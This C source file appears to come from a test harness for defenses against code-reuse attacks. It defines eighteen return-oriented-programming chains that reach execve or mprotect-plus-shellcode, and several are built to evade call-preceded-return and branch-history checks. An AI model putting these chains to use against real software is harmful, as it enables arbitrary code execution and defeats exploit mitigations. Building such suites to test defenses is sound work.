// Chains that reuse code: attacks 1 to 3, 5 to 7, 12 to 15 of the list, and a few that leave a tidier stack than these.
#include "hijack.h"

// MARK: Plain chains

static void pop_ret(void) {
  load_command();
  enter_aligned(execve_entry());
  add(pop_gadget(RDI));
  add_zeros(2);
  strike();
}

static void unaligned(void) {
  load_unaligned(2, RDI, (word)mark_argv[0], RSI, (word)mark_argv);
  add(need(find("5a c3"), "pop %rdx; ret"));
  add(0);
  enter_aligned(execve_entry());
  add(find("5a c3"));
  add_zeros(2);
  strike();
}

// Bytes 0f 05 c3 wherever they are.
static void raw_syscall(void) {
  load_command_and_rax(SYS_execve);
  below_work(need(find("0f 05 c3"), "syscall; ret"));
  strike();
}

// The syscall instruction of a function that has it for another call: mov eax, number; syscall.
// One without a frame of its own, so that the stack above is the same.
static word borrowed(void) {
  for (word at = 0; (at = find_after("b8 ?? ?? 00 00 0f 05", at)) != 0;) {
    long size = frame_size(at + 7);
    if (*(const uint32_t *)(at + 1) != SYS_execve && (size == 8 || size == -1)) return at + 5;
  }
  impossible("no mov number, %%eax; syscall");
}

static void borrowed_syscall(void) {
  load_command_and_rax(SYS_execve);
  below_work(borrowed());
  strike();
}

// syscall(2) may make any call. It wants its arguments one register later.
static void generic_syscall(void) {
  load(4, RDI, (word)SYS_execve, RSI, (word)mark_argv[0], RDX, (word)mark_argv, RCX, (word)0);
  below_work(need(symbol("syscall"), "syscall()"));
  strike();
}

static void zero_cut(void) {
  load_command();
  enter_aligned(execve_entry());
  add((word)after_each_call); // one return address that does follow a call, and a frame of the right size
  add_zeros(5 + 2);
  strike();
}

// A return address in the filling between two functions.
static void between_functions(void) {
  word start, end, filling = 0;
  while ((filling = find_after("c3 66 ?? ?? 1f 84 00 00 00 00 00", filling)) != 0)
    if (function_at(filling, &start, &end) && !function_at(filling + 5, &start, &end)) break;
  load_command();
  enter_aligned(execve_entry());
  add(need(filling, "filling between functions") + 5);
  add_zeros(2);
  strike();
}

static void past_prologue(void) {
  load_command_and_rax(SYS_execve);
  below_work(need(find_in("0f 05", execve_entry(), execve_entry() + 64), "syscall instruction in execve()"));
  strike();
}

// MARK: The last hop

// The genuine tail, and execve entered by ret: nothing but the dead word below the stack pointer tells.
static void genuine_tail(void) {
  load_command();
  below_work(execve_entry());
  strike();
}

static void jump_register(void) {
  load_command_and_rax(execve_entry());
  below_work(need(find("ff e0"), "jmp *%rax"));
  strike();
}

static void clean_jump(void) {
  load_command_and_rax(execve_entry());
  end_at(joint);
  jump_to_rax();
  strike();
}

// call *d8(register), in a function whose frame size is known: behind it the frame is filled up to work()'s.
static void call_memory(void) {
  static word pointer[32];
  static const struct {
    const char *pattern;
    int length;
    word *restored;
  } forms[] = {{"ff 53 ??", 3, &chain.rbx}, {"ff 55 ??", 3, &chain.rbp}, {"41 ff 54 24 ??", 5, &chain.r12}, {"41 ff 56 ??", 4, &chain.r14},
               {"ff 50 ??", 3, NULL}};
  pointer[0] = execve_entry();
  for (size_t form = 0; form < LENGTH(forms); form++)
    for (word at = 0; (at = find_after(forms[form].pattern, at)) != 0;) {
      word behind = at + (word)forms[form].length, from = (word)pointer - (word)(int64_t)*(const int8_t *)(behind - 1);
      long size = frame_size(behind);
      if (size < 16 || size > 512) continue;
      if (forms[form].restored) {
        load_command();
        *forms[form].restored = from;
      } else {
        load_command_and_rax(from);
      }
      end_at(joint);
      add(at);
      add_zeros((size_t)size / 8 - 1);
      strike();
    }
  impossible("no call through memory in a function whose frame is of known size");
}

// MARK: Calls that are really there
//
// each()'s loop is entered behind its call. Where rbx and rbp say that it is done it takes six words and returns; where not it loads
// three registers and calls what its table says.

static word table[32];

// The registers of a pass through each() that calls the functions of `table` up to `count`.
static void dispatch(size_t count, word first, word second, word third) {
  chain.rbx = (word)table - 8;
  chain.rbp = (word)(table + count);
  chain.r14 = first;
  chain.r13 = second;
  chain.r12 = third;
}

// The five words that each() restores, and what it returns to.
static void frame_of_each(word return_address) {
  add_zeros(5);
  add(return_address);
}

static void dispatch_execve(void) {
  table[0] = execve_entry();
  dispatch(1, (word)mark_argv[0], (word)mark_argv, 0);
}

// A pass through each()'s epilogue, which is call-preceded as well, that loads the registers of the dispatch.
static void load_dispatch(void) {
  add((word)after_each_call);
  add(chain.rbx), add(chain.rbp), add(chain.r12), add(chain.r13), add(chain.r14);
  chain.rbp = chain.rbx + 8;
}

// The sled bridges what room is left; whatever does anything follows a call.
static void call_preceded(void) {
  dispatch_execve();
  end_at(joint);
  load_dispatch();
  add((word)after_each_call);
  add_zeros(5);
  strike();
}

// Twenty harmless returns, then a long run of harmless calls before the one that matters.
static void history_flush(void) {
  for (size_t n = 0; n < 20; n++) table[n] = (word)checksum;
  table[20] = execve_entry();
  dispatch(21, (word)mark_argv[0], (word)mark_argv, 0);
  end_at(joint);
  for (size_t n = 0; n < 19; n++) {
    add((word)after_each_call);
    add(0), add(8), add_zeros(3); // rbx + 8 == rbp: through the epilogue again
  }
  load_dispatch();
  add((word)after_each_call);
  add_zeros(5);
  strike();
}

// Three words that return into a genuine call. work() does call each(), so every edge is a true one.
static void genuine_call(void) {
  dispatch_execve();
  end_at(joint + 8);
  add((word)after_each_call);
  frame_of_each(after_each_in_work());
  strike();
}

// Control comes back after the call that was allowed: each() goes on to the next entry of its table, which is code now.
static void regain(void) {
  table[0] = need(symbol("mprotect"), "mprotect");
  table[1] = (word)shellcode;
  dispatch(2, SHELLCODE_PAGES, SHELLCODE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC);
  end_at(joint + 8);
  add((word)after_each_call);
  frame_of_each(after_each_in_work());
  strike();
}

// MARK: mprotect and code of one's own

static void return_to_mprotect(void) {
  table[0] = (word)shellcode;
  dispatch(1, 0, 0, 0); // rbp may be spoilt by the pops: it only must not say that this was the last one
  load_mprotect();
  enter_aligned(need(symbol("mprotect"), "mprotect"));
  add((word)after_each_call);
}

static void mprotect_frame(void) {
  return_to_mprotect();
  add_zeros(5 + 2);
  strike();
}

static word start_return(void) {
  word start = need(symbol("_start"), "_start");
  word at = find_in("ff 15", start, start + 48);
  return at ? at + 6 : need(find_in("e8", start, start + 48), "a call in _start") + 5;
}

// Frames of the right sizes, each return address behind a call, down to a _start that lies where no process began.
static void mprotect_start(void) {
  return_to_mprotect();
  frame_of_each(after_each_in_work());
  long size = frame_size(after_each_in_work());
  if (size < 8) impossible("the frame of work() is of unknown size");
  add_zeros((size_t)size / 8 - 1);
  add(start_return());
  add_zeros(4);
  strike();
}

const struct attack rop_attacks[] = {
    {"pop-ret", pop_ret},
    {"unaligned", unaligned},
    {"raw-syscall", raw_syscall},
    {"borrowed-syscall", borrowed_syscall},
    {"generic-syscall", generic_syscall},
    {"zero-cut", zero_cut},
    {"between-functions", between_functions},
    {"past-prologue", past_prologue},
    {"genuine-tail", genuine_tail},
    {"jump-register", jump_register},
    {"clean-jump", clean_jump},
    {"call-memory", call_memory},
    {"call-preceded", call_preceded},
    {"history-flush", history_flush},
    {"genuine-call", genuine_call},
    {"regain", regain},
    {"mprotect-frame", mprotect_frame},
    {"mprotect-start", mprotect_start},
    {NULL, NULL},
};
